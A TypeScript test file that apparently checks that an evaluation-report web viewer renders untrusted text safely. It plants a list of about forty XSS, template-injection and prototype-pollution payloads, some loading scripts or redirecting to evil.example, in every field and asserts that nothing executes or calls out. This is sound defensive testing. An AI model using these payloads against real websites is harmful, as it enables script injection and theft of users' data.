import { afterAll, describe, expect, test } from "vitest";

import type { RunFileLine } from "../src/domain/run-file/lines.ts";

import {
  answerLine,
  endLine,
  itemLine,
  runLine,
  scoreLine,
  targetEntry,
} from "../src/report/testing/lines.ts";
import { chromiumPath } from "./chromium.ts";
import { closeAll, openReport } from "./open-report.ts";

afterAll(closeAll);

const run = "globalThis.ran=1";

/** What a model, a vendor or a suite may write so that a page does something. */
const payloads: readonly string[] = [
  `<script>${run}</script>`,
  `</script><script>${run}</script>`,
  `<!--<script>${run}//--></script>`,
  `<ScRiPt src=//evil.example/x.js></sCrIpT>`,
  `<img src=x onerror=${run}>`,
  `<img src="https://evil.example/pixel.png">`,
  `<svg onload=${run}>`,
  `<svg><script>${run}</script></svg>`,
  `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
  `<svg><foreignObject><iframe srcdoc="<script>parent.ran=1</script>"></iframe></foreignObject></svg>`,
  `<math><mtext></mtext><mglyph><style><img src=x onerror=${run}></style></mglyph></math>`,
  `<iframe src="javascript:parent.ran=1"></iframe>`,
  `<iframe srcdoc="&lt;script&gt;parent.ran=1&lt;/script&gt;"></iframe>`,
  `<object data="javascript:${run}"></object>`,
  `<embed src="data:text/html,<script>${run}</script>">`,
  `<a href="javascript:${run}">x</a>`,
  `javascript:${run}`,
  `[x](javascript:${run})`,
  `data:text/html;base64,PHNjcmlwdD5yYW49MTwvc2NyaXB0Pg==`,
  `<details open ontoggle=${run}><summary>x</summary></details>`,
  `<input autofocus onfocus=${run}>`,
  `<video><source onerror=${run}></video>`,
  `<audio src=x onerror=${run}></audio>`,
  `<body onload=${run}>`,
  `<marquee onstart=${run}>x</marquee>`,
  `<form action="https://evil.example"><button autofocus>x</button></form>`,
  `<meta http-equiv="refresh" content="0;url=https://evil.example">`,
  `<base href="https://evil.example/">`,
  `<link rel=stylesheet href="https://evil.example/x.css">`,
  `<style>@import "https://evil.example/x.css";*{background:url(https://evil.example/y)}</style>`,
  `<template><script>${run}</script></template>`,
  `{{constructor.constructor('${run}')()}}`,
  `\${${run}}`,
  `<%= ${run} %> #{${run}} {%raw%} [[${run}]]`,
  `"><img src=x onerror=${run}>`,
  `' onmouseover='${run}`,
  `\`-${run}-\``,
  `]]></script><![CDATA[<script>${run}</script>`,
  `\u202E\u2066反转\u2069\u202C<script>${run}</script>`,
  `\u001B]8;;https://evil.example\u0007link\u001B]8;;\u0007\u001B[2J`,
  `\u2028${run}\u2029`,
  `{"__proto__":{"ran":1}}`,
  `__proto__`,
  `{a|${run}}{style|<b>}`,
];

/** Payloads in every place that somebody else writes. */
function hostileRun(group: readonly string[]): readonly RunFileLine[] {
  const targets = group.slice(0, 3).map((payload) => `ven/${payload}`);
  const [first = ""] = group;
  const lines: RunFileLine[] = [
    runLine(
      targets.map((ref, at) => {
        const vendor = group[at + 3] ?? first;
        return targetEntry(ref, { vendor: { zh: vendor, en: vendor } });
      }),
      {
        suites: runLine([]).suites.map((suite) => ({
          ...suite,
          title: first,
          license: group[1] ?? first,
          source: group[2] ?? first,
        })),
        size: { items: group.length, per_target: group.length, answers: group.length * 3 },
      },
    ),
  ];
  for (const [place, payload] of group.entries()) {
    const item = itemOf(payload, place);
    lines.push(
      itemLine(item, {
        dimension: [payload],
        tags: [payload],
        turns: [{ question: payload, reference: payload }],
        asks: [
          {
            wording: null,
            ask_digest: "d",
            messages: [{ role: "system", text: payload }],
            turns: [payload],
          },
        ],
      }),
    );
    for (const [at, target] of targets.entries())
      lines.push(...answerOf(item, target, payload, at === place % 3));
  }
  return [...lines, endLine({ answers: group.length * 3 })];
}

const itemOf = (payload: string, place: number): string => `s/t/${place} ${payload}`;

function answerOf(
  item: string,
  target: string,
  payload: string,
  isRight: boolean,
): readonly RunFileLine[] {
  const failed = {
    outcome: "server",
    status: 500,
    code: payload,
    message: payload,
    wait_ms: 1,
    timing: null,
    streamed: false,
  } as const;
  return [
    answerLine({
      item,
      target,
      text: `${payload}\n答案：A`,
      attempts: [failed, { ...failed, outcome: "ok", status: 200 }],
      call: {
        reasoning: payload,
        model_returned: payload,
        finish: { reason: "other", raw: payload },
        tool_calls: [{ id: payload, name: payload, arguments: payload }],
      },
    }),
    {
      ...scoreLine({ item, target }, isRight ? "right" : "wrong"),
      extracted: payload,
      why: payload,
      notes: { [payload.slice(0, 40)]: payload },
      ballots: [{ judge: payload, vote: 1, value: 1, reason: payload, invalid: null }],
    },
  ];
}

const groups = Array.from({ length: 4 }, (_, at) =>
  payloads.filter((_payload, place) => place % 4 === at),
);

const views = [
  "board",
  "quadrants",
  "heat",
  "latency",
  "cost",
  "failures",
  "compare",
  "judges",
  "items",
  "answers",
  "egress",
  "method",
];

describe.skipIf(chromiumPath() === null)("what others wrote stays text", () => {
  test.each(groups.map((group) => ({ group })))("payloads %#", async ({ group }) => {
    const { page, file, complaints, requests } = await openReport(hostileRun(group));
    const addresses = [
      ...views.map((view) => `#/${view}`),
      ...group.flatMap((payload, place) => [
        `#/item/${encodeURIComponent(itemOf(payload, place))}`,
        `#/${encodeURIComponent(payload)}?q=${encodeURIComponent(payload)}`,
      ]),
    ];
    for (const address of addresses) {
      // Without loading again, as a reader goes from view to view.
      await page.evaluate(`location.hash = ${JSON.stringify(address)}`);
      await page.locator("main h2, main code").first().waitFor();
      // What is folded is not there for the browser until it is opened.
      await page.evaluate(
        "for (const each of document.querySelectorAll('details')) each.open = true",
      );
    }
    expect(await page.evaluate("globalThis.ran ?? ({}).ran ?? null")).toBe(null);
    expect(page.url().startsWith(`file://${file}`)).toBe(true);
    const foreign = "main :is(iframe, object, embed, form[action], img, video, base, meta, script)";
    expect(await page.locator(foreign).count()).toBe(0);
    expect(await page.locator('a:not([href^="#"])').count()).toBe(0);
    expect(complaints).toEqual([]);
    expect(requests).toEqual([]);
    await page.close();
  });

  test("there are forty of them", () => {
    expect(new Set(payloads).size).toBeGreaterThanOrEqual(40);
  });
});
